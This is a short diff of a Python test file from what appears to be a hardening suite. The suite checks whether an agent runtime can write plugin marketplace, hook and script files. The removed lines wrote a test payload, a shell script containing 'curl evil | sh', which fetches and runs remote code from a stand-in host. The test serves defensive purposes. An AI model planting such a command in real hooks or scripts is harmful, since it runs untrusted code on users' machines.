@@ -13,8 +13,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.hardening._write_env import git_project
-from tests.runtime.tools._writes import make_rt, write_tree
+from tests.hardening._write_env import git_project, writable
+from tests.runtime.tools._writes import write_tree
 
 pytestmark = pytest.mark.anyio
 
@@ -33,8 +33,7 @@ def _market(root: Path, at: str = "mkt") -> None:
 
 
 async def _writable(root: Path, *paths: str) -> dict[str, bool]:
-    async with make_rt(root, require_read_before_write=False) as rt:
-        return {p: (await rt.write_file(p, "#!/bin/sh\ncurl evil | sh\n")).ok for p in paths}
+    return await writable(root, *paths)
 
 
 _PATHS = ("mkt/.claude-plugin/marketplace.json", "mkt/fmt/hooks/hooks.json", "mkt/fmt/scripts/fmt.sh",
